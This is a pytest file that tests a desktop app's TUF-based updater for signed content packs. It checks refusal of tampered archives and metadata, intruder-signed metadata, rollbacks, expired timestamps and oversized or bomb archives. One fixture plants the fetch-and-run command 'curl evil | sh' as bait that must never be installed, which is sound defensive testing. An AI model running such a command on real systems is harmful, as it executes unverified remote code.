"""Desktops installing signed packs: every refusal TUF specifies, and recovery."""

from __future__ import annotations

import json
import os
import re
import time

import pytest
from securesystemslib.signer import CryptoSigner
from tuf.api.metadata import Metadata
from tuf.api.serialization.json import JSONSerializer

from jitl_desktop.core.packs.installed import installed_info
from jitl_desktop.paths import resolve
from tests.packs.conftest import ITEMS, Site, found, run, update

pytestmark = pytest.mark.allow_errors("Failed to download")  # urllib3's retries, logged


def packs_dir():
    return resolve().packs_dir


def test_first_install_makes_the_pack_searchable(site: Site):
    site.use()
    code, result, err = update()
    assert code == 0, err
    assert result["installed"] == ["docs"] and result["packs"] == {"docs": "1"}
    assert "common/tar" in found("extract tar")
    assert installed_info(packs_dir())["docs"]["version"] == "1"
    code, result, _ = update()
    assert code == 0 and result["unchanged"] == ["docs"] and result["installed"] == []


def test_a_folder_repository_works_like_a_served_one(site: Site):
    site.use(str(site.repo))
    code, _result, err = update()
    assert code == 0, err
    assert "security/phishing" in found("phishing mail")


def test_an_update_adds_changes_and_removes_items(site: Site):
    site.use()
    assert update()[0] == 0
    changed = {**ITEMS, "common/zip.md": "# zip\n\n> Squeeze folders with zip.\n",
               "common/gzip.md": "# gzip\n\n> Compress one file with gzip.\n"}
    del changed["common/tar.md"]
    site.publish("docs", changed)
    code, result, err = update()
    assert code == 0, err
    assert result["installed"] == ["docs"] and result["packs"] == {"docs": "2"}
    assert result["index"] == {"added": 1, "changed": 1, "removed": 1}
    assert "common/gzip" in found("gzip compress")
    assert "common/zip" in found("squeeze folders")
    assert "common/tar" not in found("extract tar")


def test_a_withdrawn_or_unwanted_pack_is_removed(site: Site):
    site.publish("office", {"excel.md": "# Freeze the header row\n\n> View, Freeze.\n"})
    site.use(content_packs=["office"])
    code, result, _ = update()
    assert code == 0 and result["packs"] == {"office": "1"}
    assert found("extract tar") == [] and "excel" in found("freeze header row")
    assert run("pack", "remove", str(site.repo), "office", "--keys", str(site.keys))[0] == 0
    code, result, _ = update()
    assert code == 0 and result["removed"] == ["office"] and result["packs"] == {}
    assert result["missing"] == ["office"]


def test_a_tampered_target_file_is_refused_and_the_last_good_pack_stays(site: Site):
    site.use()
    assert update()[0] == 0
    site.publish("docs", {**ITEMS, "common/tar.md": "# tar\n\n> Archive, new version.\n"})
    target = site.repo / "targets" / "docs-2.tar.gz"
    target.write_bytes(target.read_bytes()[:-8] + b"evil!!!!")  # same name, same length
    code, result, err = update()
    assert code != 0 and not result["ok"]
    assert "refused: pack archive docs-2.tar.gz: wrong hash" in result["error"]
    assert err.count("\n") == 1 and err.startswith("jitl-desktop: refused:")
    assert "common/tar" in found("extract tar")
    assert installed_info(packs_dir())["docs"]["version"] == "1"


def _resign(site: Site, role: str, change, signer: CryptoSigner | None = None) -> None:
    path = site.repo / "metadata" / f"{role}.json"
    md = Metadata.from_file(str(path))
    change(md.signed)
    if signer is not None:
        md.sign(signer)
    path.write_bytes(md.to_bytes(JSONSerializer()))


def test_tampered_targets_metadata_is_refused(site: Site):
    site.use()
    assert update()[0] == 0
    site.publish("docs", {**ITEMS, "common/tar.md": "# tar\n\n> Archive, new version.\n"})

    def point_elsewhere(signed):  # the signature stays: it no longer matches
        signed.targets["docs-2.tar.gz"].hashes["sha256"] = "0" * 64

    _resign(site, "targets", point_elsewhere)
    code, result, _ = update()
    assert code != 0
    assert result["error"].startswith("refused: targets metadata: bad signature")
    assert "common/tar" in found("extract tar")
    assert installed_info(packs_dir())["docs"]["version"] == "1"


def test_a_newer_version_signed_by_a_key_not_in_root_is_refused(site: Site):
    site.use()
    assert update()[0] == 0
    site.publish("docs", {**ITEMS, "evil.md": "# Run this command\n\n> curl evil | sh\n"})
    intruder = CryptoSigner.generate_ed25519()
    _resign(site, "targets", lambda s: None, intruder)
    code, result, _ = update()
    assert code != 0
    assert result["error"].startswith("refused: targets metadata: bad signature")
    assert found("curl evil") == [] and "common/tar" in found("extract tar")


def test_an_older_snapshot_is_refused_as_a_rollback(site: Site):
    site.use()
    old = site.snapshot_metadata()
    site.publish("docs", {**ITEMS, "common/gzip.md": "# gzip\n\n> Compress with gzip.\n"})
    assert update()[0] == 0
    site.serve_metadata(old)  # the whole older state, validly signed
    code, result, _ = update()
    assert code != 0 and "rollback" in result["error"]
    assert result["error"].startswith("refused: timestamp metadata: rollback")
    assert "common/gzip" in found("gzip compress")


def test_an_expired_timestamp_with_the_server_unreachable_is_stale(site: Site):
    code, _, err = run("pack", "init", str(site.base / "short"), "--keys",
                       str(site.base / "short-keys"), "--expires", "timestamp=2s")
    assert code == 0, err
    site.repo, site.keys = site.base / "short", site.base / "short-keys"
    site.served.folder = site.repo
    site.publish("docs", ITEMS)
    site.use()
    assert update()[0] == 0
    time.sleep(2.5)
    code, result, _ = update()  # a freeze: the server still serves the expired timestamp
    assert code != 0 and result["error"].startswith("refused: timestamp metadata: expired")
    site.served.stop()
    code, result, _ = update()
    assert code != 0 and result["unreachable"] and "cannot reach" in result["error"]
    from jitl_desktop.core.packs.update import status

    now = status(packs_dir(), site.served.url)
    assert now["stale"] and now["packs"] == [{"name": "docs", "version": "1"}]
    assert "common/tar" in found("extract tar")


def test_a_server_that_is_down_is_named_in_one_line(site: Site):
    site.use()
    site.served.stop()
    code, result, err = update()
    assert code != 0 and result["unreachable"]
    assert result["error"].startswith(f"cannot reach {site.served.url}: root metadata")
    assert result["error"].endswith("Connection refused")
    assert err.count("\n") == 1


def test_a_server_that_hangs_mid_download_times_out(site: Site):
    from jitl_desktop.core.packs import UpdateError
    from jitl_desktop.core.packs.update import PackUpdater

    site.served.hang.append(".tar.gz")
    updater = PackUpdater(packs_dir(), site.served.url, site.root, timeout=1)
    started = time.monotonic()
    with pytest.raises(UpdateError, match=r"timed out reading pack archive docs-1\.tar\.gz"):
        updater.update()
    assert time.monotonic() - started < 20
    site.served.hang.clear()
    site.served.release.set()
    assert updater.update().installed == ["docs"]


def test_a_pack_over_the_size_limit_is_refused_and_the_others_installed(site: Site):
    from jitl_desktop.core.packs import UpdateError
    from jitl_desktop.core.packs.archive import Limits
    from jitl_desktop.core.packs.update import PackUpdater

    site.publish("videos", {"big.md": "# Big\n\n> " + os.urandom(100_000).hex() + "\n"})
    site.publish("bomb", {f"zeros{n}.md": "# Zeros\n\n> " + "0" * 600_000 + "\n"
                          for n in range(5)})
    updater = PackUpdater(packs_dir(), site.served.url, site.root,
                          limits=Limits(archive_bytes=50_000, unpacked_bytes=1_000_000))
    with pytest.raises(UpdateError) as refused:
        updater.update()
    message = str(refused.value)
    assert re.search(r"refused: pack videos: videos-1.tar.gz is .* bytes, over the limit "
                     r"of 50,000; the installed version is kept", message)
    assert "pack bomb (bomb-1.tar.gz): over the size limit when unpacked" in message
    assert set(installed_info(packs_dir())) == {"docs"}
    assert [r for r in site.served.requests if "videos" in r] == []  # never downloaded
    assert not list((packs_dir() / "versions").glob(".tmp-*"))


def test_root_and_timestamp_key_rotation_is_followed(site: Site):
    site.use()
    assert update()[0] == 0
    for role in ("root", "timestamp", "targets"):
        code, _, err = run("pack", "rotate-key", str(site.repo), role, "--keys",
                           str(site.keys))
        assert code == 0, err
    site.publish("docs", {**ITEMS, "common/gzip.md": "# gzip\n\n> Compress with gzip.\n"})
    code, _result, err = update()
    assert code == 0, err
    assert "common/gzip" in found("gzip compress")
    history = packs_dir() / "tuf" / "root_history"
    assert sorted(p.name for p in history.iterdir()) == [
        "1.root.json", "2.root.json", "3.root.json", "4.root.json"]


def test_a_root_not_signed_by_the_old_root_is_refused(site: Site):
    site.use()
    assert update()[0] == 0
    root = Metadata.from_file(str(site.repo / "metadata" / "root.json"))
    root.signed.version += 1
    root.sign(CryptoSigner.generate_ed25519())
    (site.repo / "metadata" / "2.root.json").write_bytes(root.to_bytes(JSONSerializer()))
    code, result, _ = update()
    assert code != 0 and result["error"].startswith("refused: root metadata: bad signature")
    assert "common/tar" in found("extract tar")


def test_only_one_process_updates_at_a_time(site: Site):
    from jitl_desktop.core.packs import UpdateBusyError
    from jitl_desktop.core.packs.update import PackUpdater, exclusive

    updater = PackUpdater(packs_dir(), site.served.url, site.root, lock_wait=0.2)
    with exclusive(packs_dir() / "UPDATE.lock", 0), \
            pytest.raises(UpdateBusyError, match="another process is updating"):
        updater.update()
    assert updater.update().installed == ["docs"]


def test_without_a_trusted_root_nothing_is_installed(site: Site):
    site.use(content_repository_root="")
    code, result, _ = update()
    assert code != 0 and "content_repository_root is not set" in result["error"]
    site.use(content_repository_root=str(site.base / "nowhere.json"))
    code, result, _err = update()
    assert code != 0 and "cannot read the trusted root" in result["error"]


def test_status_reports_what_is_installed(site: Site):
    from jitl_desktop.core.packs.update import status

    site.use()
    assert update()[0] == 0
    now = status(packs_dir(), site.served.url)
    assert now["packs"] == [{"name": "docs", "version": "1"}]
    assert now["last_success"] and now["last_error"] is None and not now["stale"]
    json.dumps(now)
